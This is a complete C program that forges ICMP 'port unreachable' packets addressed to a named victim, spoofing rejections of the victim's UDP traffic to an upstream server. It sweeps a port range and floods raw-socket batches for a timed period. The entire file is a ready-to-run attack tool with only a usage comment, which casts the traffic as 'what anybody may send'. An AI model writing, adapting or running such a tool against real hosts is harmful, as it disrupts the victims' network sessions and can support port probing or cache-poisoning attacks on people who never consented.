/*
 * icmp.c: forges what anybody may send: ICMP "port unreachable" for datagrams from VICTIM to the server UPSTREAM, as if
 * they had gone out of each port from FIRST to LAST, in turn, as fast as it can for SECONDS. It prints how many it
 * sent. icmp VICTIM UPSTREAM PORT FIRST LAST SECONDS
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum {
    BATCH = 32
};

struct forged {
    struct icmphdr icmp;
    struct iphdr   ip;
    struct udphdr  udp;
} __attribute__((packed));

static uint16_t checksum(const void *data, size_t len)
{
    uint32_t sum = 0;
    for (size_t i = 0; i < len; i += 2) {
        uint16_t word;
        memcpy(&word, (const char *) data + i, 2);
        sum += word;
    }
    sum = (sum >> 16) + (sum & 0xffff);
    return (uint16_t) ~(sum + (sum >> 16));
}

static struct forged forge(in_addr_t victim, in_addr_t upstream, unsigned port, unsigned from)
{
    struct forged packet = {
        .icmp = {.type = ICMP_DEST_UNREACH, .code = ICMP_PORT_UNREACH},
        .ip   = {.version  = 4,
                 .ihl      = 5,
                 .ttl      = 60,
                 .protocol = IPPROTO_UDP,
                 .tot_len  = htons(60),
                 .saddr    = victim,
                 .daddr    = upstream},
        .udp  = {.source = htons((uint16_t) from), .dest = htons((uint16_t) port), .len = htons(40)},
    };
    packet.icmp.checksum = checksum(&packet, sizeof(packet));
    return packet;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double) time.tv_sec + (double) time.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 7)
        return 2;
    int                fd    = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    struct sockaddr_in to    = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(argv[1])};
    unsigned           first = (unsigned) atoi(argv[4]), last = (unsigned) atoi(argv[5]), from = first;
    unsigned long      sent = 0;
    double             end  = now() + atof(argv[6]);
    if (fd < 0) {
        perror("icmp: a raw socket");
        return 1;
    }
    while (now() < end) {
        struct forged  packets[BATCH];
        struct iovec   pieces[BATCH];
        struct mmsghdr messages[BATCH] = {0};
        for (unsigned i = 0; i < BATCH; i++) {
            packets[i] = forge(to.sin_addr.s_addr, inet_addr(argv[2]), (unsigned) atoi(argv[3]), from);
            from       = from < last ? from + 1 : first;
            pieces[i]  = (struct iovec){&packets[i], sizeof(packets[i])};
            messages[i].msg_hdr =
                (struct msghdr){.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &pieces[i], .msg_iovlen = 1};
        }
        int done = sendmmsg(fd, messages, BATCH, 0);
        if (done > 0)
            sent += (unsigned long) done;
    }
    printf("%lu\n", sent);
    return 0;
}
